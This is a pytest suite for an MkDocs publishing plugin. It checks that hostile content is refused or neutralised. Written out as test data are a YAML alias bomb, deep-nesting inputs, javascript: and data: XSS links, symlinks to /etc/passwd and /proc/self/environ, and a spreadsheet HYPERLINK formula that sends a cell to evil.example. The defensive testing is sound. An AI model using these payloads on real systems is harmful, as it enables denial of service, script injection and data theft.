"""Safe to publish from a pull request (issue 12): hostile content and settings are refused with a clear
message, nothing from outside content/ is published, and the repository stands alone.

Each test here was seen failing on the code before its fix.
"""

from __future__ import annotations

import re
import subprocess
from pathlib import Path

import pytest
import yaml

from conftest import ROOT, make_project, run_build, run_tool


# -- the repository stands alone -----------------------------------------------------------------

def _tracked_files() -> list[Path]:
    names = subprocess.run(["git", "ls-files", "-z"], cwd=ROOT, capture_output=True, check=True).stdout
    return [ROOT / name for name in names.decode().split("\0") if name]


def test_no_tracked_file_reads_anything_beside_the_repository():
    """A clone with nothing beside it must pass its own tests: no file may point at the folder the
    source documents were first kept in (they are in sources/ now)."""
    beside = re.compile("|".join(re.escape(p) for p in ["../" + "shared", "shared" + "/seeds", '"shared"' + ' / "seeds"']))
    found = []
    for path in _tracked_files():
        if not path.is_file() or path.is_symlink():
            continue
        text = path.read_bytes().decode("utf-8", errors="replace")
        for number, line in enumerate(text.splitlines(), start=1):
            if beside.search(line):
                found.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()[:100]}")
    assert not found, "these lines refer to files outside the repository:\n" + "\n".join(found)


def test_the_source_documents_are_in_the_repository():
    listed = (ROOT / "sources" / "README.md").read_text(encoding="utf-8")
    texts = sorted(p.name for p in (ROOT / "sources").glob("*.txt"))
    assert len(texts) == 5
    for name in texts:
        assert f"`{name}`" in listed, f"sources/README.md does not describe {name}"


# -- the workflow ---------------------------------------------------------------------------------

def _workflow_steps():
    for path in sorted((ROOT / ".github" / "workflows").glob("*.y*ml")):
        workflow = yaml.safe_load(path.read_text(encoding="utf-8"))
        for job_name, job in (workflow.get("jobs") or {}).items():
            for step in job.get("steps") or []:
                yield path, job_name, step


def test_every_action_is_pinned_by_commit_with_its_version_beside_it():
    """A tag can be moved to other code; a full commit SHA cannot. The comment keeps it readable."""
    lines = {}
    for path in sorted((ROOT / ".github" / "workflows").glob("*.y*ml")):
        lines[path] = path.read_text(encoding="utf-8").splitlines()
    wrong = []
    steps = list(_workflow_steps())
    assert steps
    for path, job, step in steps:
        uses = step.get("uses")
        if not uses or uses.startswith("./"):
            continue
        if not re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", uses):
            wrong.append(f"{path.name} job {job}: {uses} is not pinned by a 40-character commit SHA")
            continue
        written = [line for line in lines[path] if uses in line]
        if not written or not all(re.search(r"@[0-9a-f]{40} # v\d+(\.\d+)*$", line) for line in written):
            wrong.append(f"{path.name} job {job}: {uses} has no '# vX.Y.Z' comment naming its version")
    assert not wrong, "\n".join(wrong)


def test_every_checkout_keeps_no_credentials():
    """A checkout leaves its token in .git/config unless told not to; nothing in these jobs pushes."""
    checkouts = [(path, job, step) for path, job, step in _workflow_steps()
                 if (step.get("uses") or "").startswith("actions/checkout@")]
    assert checkouts
    wrong = [f"{path.name} job {job}" for path, job, step in checkouts
             if (step.get("with") or {}).get("persist-credentials") is not False]
    assert not wrong, "checkout without 'persist-credentials: false' in: " + ", ".join(wrong)


# -- hostile YAML: a clear error within a second, before the parser builds anything -----------------

def _billion_laughs() -> str:
    """The classic alias bomb: ten levels of ten references, 1.7 KB standing for 10**10 values."""
    lines = ['lol0: &lol0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for level in range(1, 11):
        lines.append(f"lol{level}: &lol{level} [" + ", ".join([f"*lol{level - 1}"] * 10) + "]")
    return "---\ntype: action\ntitle: A title\n" + "\n".join(lines) + "\n---\n"


HOSTILE_YAML = {
    "billion laughs": (_billion_laughs(),
                       ["x.md:4: lol0: a value starts with '&', which YAML reads as a reference to another value"]),
    "an alias of a field above": ('---\ntitle: &t A title\nnote: *t\n---\n',
                                  ["x.md:2: title: a value starts with '&'"]),
    "25 000 nested brackets": ("---\ntitle: A title\nleads: " + "[" * 25_000 + "]" * 25_000 + "\n---\n",
                               ["x.md:3: the front-matter is not valid YAML: lists or groups are nested too deeply"]),
    "2 000 nested groups": ("---\nleads: " + "{a: " * 2_000 + "1" + "}" * 2_000 + "\n---\n",
                            ["x.md:2: the front-matter is not valid YAML: lists or groups are nested too deeply"]),
    "30 levels of indentation": ("---\n" + "".join(" " * level + f"a{level}:\n" for level in range(30)) + "---\n",
                                 ["x.md:22: the front-matter is not valid YAML: lists or groups are nested too deeply"]),
    "control characters written as codes": (
        '---\ntitle: "A\\x01title"\nhistory:\n  - note: "ring \\u0007"\n    source: "next\\x85line"\n'
        '    url: "https://example.org/\\x7f"\n"key\\x1b": 1\n---\n',
        ["x.md:2: title: contains an invisible control character (code 0x01) that is not allowed",
         "x.md:4: history[1].note: contains an invisible control character (code 0x07)",
         "x.md:5: history[1].source: contains an invisible control character (code 0x85)",
         "x.md:6: history[1].url: contains an invisible control character (code 0x7f)",
         "x.md:7: contains an invisible control character (code 0x1b)"]),
}

_PARSE_ONE = """
import json, sys, time
sys.path.insert(0, sys.argv[1])
from plan_progress.core.frontmatter import parse
from plan_progress.core.problems import Problems
text = sys.stdin.read()
problems = Problems()
started = time.process_time()
parse(text, "x.md", "x.md", problems)
print(json.dumps({"seconds": time.process_time() - started, "problems": [str(p) for p in problems.items]}))
"""


@pytest.mark.parametrize("name", list(HOSTILE_YAML))
def test_hostile_yaml_is_a_clear_error_in_moments(name):
    """Run in a child process: before the fix these hung for minutes (the alias bomb) or crashed the
    interpreter with a segfault (deep nesting); control characters written as codes passed unnoticed."""
    import json
    import sys

    text, expected = HOSTILE_YAML[name]
    try:
        child = subprocess.run([sys.executable, "-c", _PARSE_ONE, str(ROOT / "plugins")], input=text,
                               capture_output=True, text=True, timeout=20)
    except subprocess.TimeoutExpired:
        pytest.fail(f"{name}: still reading after 20 s")
    assert child.returncode == 0, f"{name}: the reader crashed (exit {child.returncode}): {child.stderr[-500:]}"
    result = json.loads(child.stdout)
    # Milliseconds on an idle machine; the bound leaves room for a busy one (before the fix: minutes).
    assert result["seconds"] < 5.0, f"{name}: took {result['seconds']:.2f} s"
    assert len(result["problems"]) == len(expected), result["problems"]
    for line, start in zip(sorted(result["problems"]), sorted(expected)):
        assert line.startswith(start), (line, start)


# -- links: only https://, http://, mailto: and paths on this site --------------------------------

def _hostile_links(text: str) -> str:
    text = text.replace("      plan_name: test plan\n",
                        "      plan_name: test plan\n      feedback_url: 'JavaScript:alert(1)'\n"
                        "      licence_url: 'data:text/html,<script>alert(1)</script>'\n")
    text = text.replace("site_name: Test plan progress", 'site_name: "Test plan\\x0c progress"')
    return text + ("extra:\n  homepage: ' javascript:alert(1)'\n  footer_links:\n    - {text: Fine, url: about/}\n"
                   "    - {text: Evil, url: '//evil.example/'}\n")


EXPECTED_SETTINGS = [
    "plugins: plan-progress: feedback_url: 'JavaScript:alert(1)' is a 'javascript:' link, which is not allowed",
    "plugins: plan-progress: licence_url: 'data:text/html,<script>alert(1)</script>' is a 'data:' link",
    "extra: homepage: ' javascript:alert(1)' contains a space or an invisible character",
    "extra: footer_links[2].url: '//evil.example/' starts with '//'",
    "site_name: contains an invisible control character (code 0x0c) that is not allowed; delete it",
]


def test_link_settings_in_mkdocs_yml_stop_the_build_naming_each_one(tmp_path):
    project = make_project(tmp_path, config_edit=_hostile_links)
    build = run_build(project)
    assert build.returncode == 1
    assert "Traceback" not in build.output
    assert "plan-progress: settings in mkdocs.yml that cannot be published:" in build.output, build.output
    for expected in EXPECTED_SETTINGS:
        assert expected in build.output, (expected, build.output)
    assert "footer_links[1]" not in build.output
    assert not (build.site / "index.html").exists()


def test_validate_names_each_unsafe_link_setting(tmp_path):
    project = make_project(tmp_path, config_edit=_hostile_links)
    result = run_tool("validate", "-f", str(project / "mkdocs.yml"))
    output = result.stdout + result.stderr
    assert result.returncode == 2, output
    assert "Traceback" not in output
    for expected in EXPECTED_SETTINGS:
        assert expected in output, (expected, output)


A11 = "content/areas/1-finding/1-1-red.md"


@pytest.mark.parametrize("option, value, message", [
    ("--url", "javascript:alert(1)", "--url: 'javascript:alert(1)' is a 'javascript:' link, which is not allowed"),
    ("--url", "&#x6A;avascript:alert(1)", "--url: '&#x6A;avascript:alert(1)' is a 'javascript:' link"),
    ("--url", "//evil.example", "--url: '//evil.example' starts with '//'"),
    ("--note", "Rated\x01 at the board", "--note contains an invisible control character (code 0x01)"),
    ("--source", "Board\x85minutes", "--source contains an invisible control character (code 0x85)"),
])
def test_set_status_refuses_an_unsafe_link_or_a_control_character_before_writing(tmp_path, option, value, message):
    project = make_project(tmp_path)
    before = (project / A11).read_bytes()
    args = {"--note": "Rated at the board.", "--source": "Board meeting, June 2022"}
    args[option] = value
    command = ["1.1", "amber", "--date", "2022-06-10", "-f", str(project / "mkdocs.yml")]
    for name, text in args.items():
        command += [name, text]
    result = run_tool("set-status", *command)
    assert result.returncode != 0, result.stdout + result.stderr
    assert message in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    assert (project / A11).read_bytes() == before


# -- files: nothing from outside content/ is published ------------------------------------------------

def _with_links(project: Path, links: dict[str, str]) -> Path:
    for name, target in links.items():
        link = project / "content" / name
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(target)
    return project


def _linked_project(tmp_path: Path) -> Path:
    project = make_project(tmp_path)
    secret = tmp_path / "outside"
    secret.mkdir()
    (secret / "config").write_text("[remote]\n  extraheader = AUTHORIZATION: basic c2VjcmV0\n")
    (secret / "notes.md").write_text("# Secret\n")
    return _with_links(project, {
        "x.txt": "/etc/passwd",
        "repo": str(secret),  # a folder linked out, as ../.git would be
        "env.txt": "/proc/self/environ",
        "about/page.md": str(secret / "notes.md"),
    })


EXPECTED_LINKED = [
    "content/about/page.md: is a symbolic link (to {secret}/notes.md)",
    "content/env.txt: is a symbolic link (to /proc/self/environ)",
    "content/repo: is a folder that is a symbolic link (to {secret})",
    "content/x.txt: is a symbolic link (to /etc/passwd)",
]


def test_the_build_refuses_symbolic_links_and_publishes_nothing(tmp_path):
    project = _linked_project(tmp_path)
    build = run_build(project)
    assert build.returncode == 1, build.output
    assert "Traceback" not in build.output
    problems = build.problems()
    assert len(problems) == len(EXPECTED_LINKED), build.output
    for line, expected in zip(sorted(problems), EXPECTED_LINKED):
        assert line.startswith(expected.format(secret=tmp_path / "outside")), (line, expected)
        assert line.endswith("the site publishes only files kept in the content folder itself; put a copy of "
                             "the file there instead, or delete the link")
    published = [p for p in build.site.rglob("*") if p.is_file()] if build.site.exists() else []
    assert not published
    assert not any("extraheader" in p.read_text(errors="replace") for p in published)


def test_validate_refuses_symbolic_links_too(tmp_path):
    project = _linked_project(tmp_path)
    result = run_tool("validate", "-f", str(project / "mkdocs.yml"))
    assert result.returncode == 1, result.stdout + result.stderr
    lines = result.stdout.splitlines()[:-1]
    assert len(lines) == len(EXPECTED_LINKED), result.stdout
    for line, expected in zip(lines, EXPECTED_LINKED):
        assert line.startswith(expected.format(secret=tmp_path / "outside")), (line, expected)


def test_a_link_inside_the_content_folder_is_refused_as_well(tmp_path):
    """Even a link to another content file is refused: a reviewer cannot see where a link points."""
    project = _with_links(make_project(tmp_path), {"copy.md": "index.md"})
    build = run_build(project)
    assert build.returncode == 1
    assert build.problems() == ["content/copy.md: is a symbolic link (to index.md); the site publishes only files "
                                "kept in the content folder itself; put a copy of the file there instead, or "
                                "delete the link"]


def test_a_symbolic_link_in_the_theme_overrides_is_refused(tmp_path):
    """The theme's custom folder is copied into the site too (its static files)."""
    import shutil

    def own_overrides(text: str) -> str:
        if "custom_dir:" in text:
            return re.sub(r"custom_dir: .*", "custom_dir: overrides", text)
        return text.replace("name: material\n", "name: material\n  custom_dir: overrides\n", 1)

    project = make_project(tmp_path, config_edit=own_overrides)
    assert "custom_dir: overrides" in (project / "mkdocs.yml").read_text()
    shutil.copytree(ROOT / "overrides", project / "overrides")
    (project / "overrides" / "leak.txt").symlink_to("/etc/passwd")
    build = run_build(project)
    assert build.returncode == 1, build.output
    assert ("overrides/leak.txt: is a symbolic link (to /etc/passwd); the site publishes only files kept in the "
            "overrides folder itself") in build.output, build.output
    assert not (build.site / "leak.txt").exists()


# -- open data: CSV cells are never formulas ----------------------------------------------------------

def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(tmp_path):
    import csv
    import io
    import json

    fixture = (ROOT / "tests/fixtures/basic/content/areas/1-finding/1-3-unrated.md").read_text(encoding="utf-8")
    page = fixture.replace("title: An unrated action past its date",
                           'title: \'=HYPERLINK("https://evil.example/?"&A1,"Click")\'\n'
                           "leads: ['@SUM(1+1)', '-2+3', Head of Service]\ndue_text: '+44 7700 900000'")
    assert page != fixture
    project = make_project(tmp_path, files={"content/areas/1-finding/1-3-unrated.md": page})
    build = run_build(project)
    assert build.returncode == 0, build.output
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(
        (build.site / "data/actions.csv").read_text(encoding="utf-8")))}
    row = rows["1.3"]
    assert row["title"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert row["leads"] == "'@SUM(1+1) | -2+3 | Head of Service"
    assert row["due_text"] == "'+44 7700 900000"
    assert rows["1.1"]["title"] == "A red action that is late"  # ordinary text is unchanged
    for other in rows.values():
        for name, cell in other.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (other["id"], name, cell)
    action = next(a for a in json.loads((build.site / "data/actions.json").read_text())["actions"] if a["id"] == "1.3")
    assert action["title"] == '=HYPERLINK("https://evil.example/?"&A1,"Click")'  # JSON keeps the value as written
    assert action["leads"] == ["@SUM(1+1)", "-2+3", "Head of Service"]


# -- a failed build publishes nothing -------------------------------------------------------------------

def _scripts_build(project: Path) -> subprocess.CompletedProcess:
    return subprocess.run([str(ROOT / "scripts" / "build"), "-f", str(project / "mkdocs.yml"),
                           "-d", str(project / "site")], capture_output=True, text=True, timeout=300)


def test_a_failed_build_leaves_no_site_at_all(tmp_path):
    """A strict build that stops on a warning (here a broken link, found after every page was written)
    used to leave a complete site/ built from the failing content; ./scripts/a11y took it as current."""
    project = make_project(tmp_path)
    good = _scripts_build(project)
    assert good.returncode == 0, good.stdout + good.stderr
    assert (project / "site" / "index.html").is_file()

    index = project / "content" / "index.md"
    index.write_text(index.read_text(encoding="utf-8") + "\nSee [the missing page](missing.md).\n", encoding="utf-8")
    failed = _scripts_build(project)
    assert failed.returncode != 0
    assert "missing.md" in failed.stdout + failed.stderr
    assert not (project / "site").exists(), "a failed build must not leave a site behind"
    assert sorted(p.name for p in project.iterdir() if p.name.startswith(".")) == []  # no half-built folder


def test_a_successful_build_replaces_the_site_whole(tmp_path):
    project = make_project(tmp_path)
    (project / "site").mkdir()
    (project / "site" / "left-over.html").write_text("from an old build")
    result = _scripts_build(project)
    assert result.returncode == 0, result.stdout + result.stderr
    assert (project / "site" / "index.html").is_file()
    assert not (project / "site" / "left-over.html").exists()
    assert sorted(p.name for p in project.iterdir() if p.name.startswith(".")) == []


def test_quiet_does_not_let_a_warning_through(tmp_path):
    """`mkdocs build --strict -q` succeeds despite warnings (it counts only what it prints)."""
    page = (ROOT / "tests/fixtures/basic/content/areas/1-finding/1-3-unrated.md").read_text(encoding="utf-8")
    project = make_project(tmp_path, files={
        "content/areas/1-finding/1-3-unrated.md": page.replace("status: not-rated\n", "status: not-rated\nstatsu: x\n")})
    result = subprocess.run([str(ROOT / "scripts" / "build"), "-q", "-f", str(project / "mkdocs.yml"),
                             "-d", str(project / "site")], capture_output=True, text=True, timeout=300)
    assert result.returncode != 0
    assert "statsu: is not a field of an action" in result.stdout + result.stderr
    assert not (project / "site").exists()
